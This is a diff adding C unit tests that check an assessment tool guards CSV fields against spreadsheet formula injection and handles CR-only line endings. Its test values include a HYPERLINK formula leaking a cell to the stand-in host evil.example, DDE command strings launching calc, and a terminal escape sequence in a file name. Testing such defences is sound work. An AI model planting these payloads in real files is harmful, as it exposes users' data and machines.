@@ -17,6 +17,7 @@
 #include "assessment.h"
 #include "atomicfile.h"
 #include "csvio.h"
+#include "summary.h"
 
 static struct framework *fw;
 static char dir[256];
@@ -230,6 +231,13 @@ static void test_bad_input(void **state)
 		  "a.csv:2: field \"target_level\" is \"best\"" },
 		{ "criterion_id,level,target_level\n1.7,none,established\n",
 		  "a.csv:2: field \"target_level\": criterion 1.7 has no established cell" },
+		{ "criterion_id,level,=a,'=A\n1.1,none,x,y\n",
+		  "a.csv:1: columns \"=a\" and \"'=A\" are one column" },
+		/* old Mac spreadsheets end lines with CR alone: the true line */
+		{ "criterion_id,level\r1.1,none\r1.2,none\r1.3,none\r1.4,expert\r",
+		  "a.csv:5: field \"level\" is \"expert\"" },
+		{ "criterion_id,level,notes\r1.1,none,\"a\rb\"\r1.2,none,x\r1.9,none,y\r",
+		  "a.csv:5: field \"criterion_id\" is \"1.9\"" },
 	};
 	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
 		struct tri_error err = {{0}};
@@ -346,6 +354,103 @@ static void test_permissions_and_symlinks(void **state)
 	assessment_destroy(a);
 }
 
+/* True if any field or header name of the CSV text would run as a
+ * formula in a spreadsheet. */
+static bool has_formula(const char *text)
+{
+	struct csvio_table t;
+	struct tri_error err = {{0}};
+	if (csvio_table_parse(&t, "saved.csv", text, strlen(text), &err) != 0)
+		fail_msg("%s", err.message);
+	bool found = false;
+	for (size_t c = 0; c < t.column_count; c++)
+		found |= strchr("=+-@\t\r", t.header[c][0]) && t.header[c][0];
+	for (size_t r = 0; r < t.row_count; r++)
+		for (size_t c = 0; c < t.rows[r].field_count; c++)
+			found |= strchr("=+-@\t\r", t.rows[r].fields[c][0]) && t.rows[r].fields[c][0];
+	csvio_table_finish(&t);
+	return found;
+}
+
+/* Unknown extra columns are written back guarded, names and values, and
+ * read back exactly: the second save is byte for byte the first. */
+static void test_extra_columns_guarded(void **state)
+{
+	(void)state;
+	static const char *const values[] = {
+		"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3",
+		"@SUM(1)", "'=already guarded", "''two", "plain", "\t=tab",
+	};
+	enum { N = sizeof values / sizeof values[0] };
+	char text[2048] = "criterion_id,level,=Owner,+Due,'=Kept\n";
+	for (size_t i = 0; i < N; i++) {
+		char *quoted = strchr(values[i], '"') || strchr(values[i], ',') ? "\"" : "";
+		size_t used = strlen(text);
+		snprintf(text + used, sizeof text - used, "1.%zu,none,", i + 1);
+		used = strlen(text);
+		/* the value, quoted with its quotes doubled where needed */
+		snprintf(text + used, sizeof text - used, "%s", quoted);
+		for (const char *c = values[i]; *c; c++) {
+			used = strlen(text);
+			snprintf(text + used, sizeof text - used, *c == '"' ? "\"\"" : "%c", *c);
+		}
+		used = strlen(text);
+		snprintf(text + used, sizeof text - used, "%s,x,'=y\n", quoted);
+	}
+	struct tri_error err = {{0}};
+	struct assessment *a = parse(text, &err);
+	if (!a)
+		fail_msg("%s", err.message);
+	assert_int_equal(a->extra_column_count, 3);
+	assert_string_equal(a->extra_columns[0], "=Owner");
+	assert_string_equal(a->extra_columns[2], "=Kept"); /* the file held it guarded */
+	const char *first = path_in_dir("extra-first.csv");
+	assert_int_equal(assessment_save(a, first, false, &err), 0);
+	char *saved = slurp(first);
+	assert_false(has_formula(saved));
+	assert_non_null(strstr(saved, ",'=Owner,'+Due,'=Kept\r\n"));
+	struct assessment *b = assessment_load(fw, first, &err);
+	if (!b)
+		fail_msg("%s", err.message);
+	for (size_t j = 0; j < 3; j++)
+		assert_string_equal(b->extra_columns[j], a->extra_columns[j]);
+	for (size_t i = 0; i < N; i++) {
+		assert_string_equal(b->answers[i].extra[0], values[i][0] == '\'' &&
+				    strchr("='", values[i][1]) ? values[i] + 1 : values[i]);
+		assert_string_equal(b->answers[i].extra[2], "=y");
+	}
+	char second[512];
+	snprintf(second, sizeof second, "%s", path_in_dir("extra-second.csv"));
+	assert_int_equal(assessment_save(b, second, false, &err), 0);
+	char *again = slurp(second);
+	assert_string_equal(again, saved);
+	free(saved);
+	free(again);
+	assessment_destroy(a);
+	assessment_destroy(b);
+}
+
+/* The summary (score --csv, the wizard's x) guards what came from input,
+ * the file's name above all, and shows its controls; numbers stay. */
+static void test_summary_guarded(void **state)
+{
+	(void)state;
+	struct assessment *a = assessment_create(fw);
+	char *buffer = NULL;
+	size_t size = 0;
+	FILE *out = open_memstream(&buffer, &size);
+	struct tri_error err = {{0}};
+	assert_int_equal(summary_write_header(out), 0);
+	assert_int_equal(summary_write_rows(out, a, "=cmd|' /C calc'!A0\x1b]0;x\x07.csv", &err), 0);
+	fclose(out);
+	assert_non_null(strstr(buffer, "file,category,title,score,max,level\r\n"
+			       "'=cmd|' /C calc'!A0\\e]0;x\\x07.csv,1,Strategic Leadership and "
+			       "Management,0,22,developing\r\n"));
+	assert_false(has_formula(buffer));
+	free(buffer);
+	assessment_destroy(a);
+}
+
 /* Temporary files a killed writer left behind are swept; nothing else is:
  * not a person's ".NAME.backup" or ".NAME.2025-1", not the old-style
  * ".NAME.XXXXXX", not the lock, not the journal. */
@@ -378,6 +483,8 @@ int main(void)
 		cmocka_unit_test(test_writer_failure_and_exclusive),
 		cmocka_unit_test(test_permissions_and_symlinks),
 		cmocka_unit_test(test_remove_stale),
+		cmocka_unit_test(test_extra_columns_guarded),
+		cmocka_unit_test(test_summary_guarded),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
